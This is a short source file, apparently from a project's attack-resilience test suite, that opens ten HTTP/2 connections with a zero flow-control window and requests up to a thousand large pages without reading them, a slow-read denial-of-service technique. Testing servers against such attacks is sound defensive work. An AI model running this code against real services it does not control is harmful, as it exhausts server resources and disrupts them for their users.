import { connect } from "node:http2";
import { largePage } from "../../support/data/large-page.js";
import { keepDoing, runAttack } from "../../support/reads/attack.js";

const CONNECTIONS = 10;
const STREAMS = 100;

/** HTTP/2 streams that request large pages and read nothing. */
runAttack(async (target) => {
  const sessions = Array.from({ length: CONNECTIONS }, () =>
    connect(target.messagingDataUrl, { settings: { initialWindowSize: 0 } }).on("error", () => {}),
  );
  const most = CONNECTIONS * STREAMS;
  let asked = 0;
  await keepDoing({ seconds: target.seconds, perSecond: most / 5, atOnce: most }, async () => {
    if (asked === most) return;
    const index = asked++;
    const session = sessions[index % CONNECTIONS];
    if (session === undefined || session.closed || session.destroyed) return;
    const headers = { ":path": largePage(target, index), authorization: `Bearer ${target.token}` };
    session.request(headers).on("error", () => {});
  });
  return {
    did: `${asked} streams on ${CONNECTIONS} connections that requested a page each and read nothing`,
  };
});
